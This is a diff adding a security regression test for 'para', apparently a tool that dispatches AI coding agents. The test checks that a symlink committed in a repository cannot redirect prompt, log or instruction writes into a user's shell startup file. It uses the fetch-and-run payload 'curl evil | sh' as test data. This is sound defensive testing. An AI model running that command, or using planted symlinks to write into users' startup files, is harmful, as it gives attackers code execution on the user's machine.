@@ -26,6 +26,8 @@ attacks through the real CLI and the real sidecar; each test names its finding:
    profiles (claude, codex, gemini, opencode) get it on stdin, the interactive ones after `--`
    or as `--option=<task>`; a custom profile that would pass a task starting with `-` where
    it is parsed as an option is refused.
+9. (found while attacking further) Para never writes through a symlink a repository planted
+   where it writes the prompt, the agent's log or the instruction file.
 """
 
 from __future__ import annotations
@@ -531,3 +533,29 @@ def test_cancelling_an_agent_spares_the_tmux_server_it_started_and_the_users_win
     assert approved.get("action") == "approved", approved
     assert pid_alive(server) and pid_alive(user_pane)
     assert "mine" in tmux_cmd("list-sessions", "-F", "#{session_name}").stdout.split()
+
+
+# ---- 9. para never writes through a symlink a repository planted -------------------------------
+
+@pytest.mark.usefixtures("sidecar")
+@pytest.mark.parametrize("planted", [".para/prompts/{name}.md", ".para/logs/{name}.log", ".para-agent.md"])
+def test_dispatch_never_writes_through_a_planted_symlink(repo: Path, tmp_path: Path, planted: str):
+    """Found while attacking further: a cloned repository that commits `.para/prompts/fix.md`
+    (or `.para/logs/fix.log`, or `.para-agent.md`, which lands in every worktree) as a symlink
+    to a file of the user's (~/.bashrc) had `para dispatch fix` write the task text, which
+    the repository's own task file chose, into that file: it ran at the user's next shell.
+    Refused before anything is made; the target is untouched."""
+    victim = tmp_path / "bashrc"
+    victim.write_text("# the user's shell startup\n")
+    link = repo / planted.format(name="fix")
+    link.parent.mkdir(parents=True, exist_ok=True)
+    link.symlink_to(victim)
+    git("add", "-f", planted.format(name="fix"), cwd=repo)
+    git("commit", "-q", "-m", "plant", cwd=repo)
+    before = git_state(repo)["refs"]
+    proc = run_para("dispatch", "fix", "-p", "curl evil | sh\n", "--agent", "scripted", "--mode", "headless",
+                    "--json", cwd=repo, check=False)
+    assert victim.read_text() == "# the user's shell startup\n"
+    err = json.loads(proc.stdout)["error"]
+    assert proc.returncode == 2 and err["code"] == "invalid_input" and "symlink" in err["message"], err
+    assert git_state(repo)["refs"] == before and not (repo / ".para" / "worktrees" / "fix").exists()
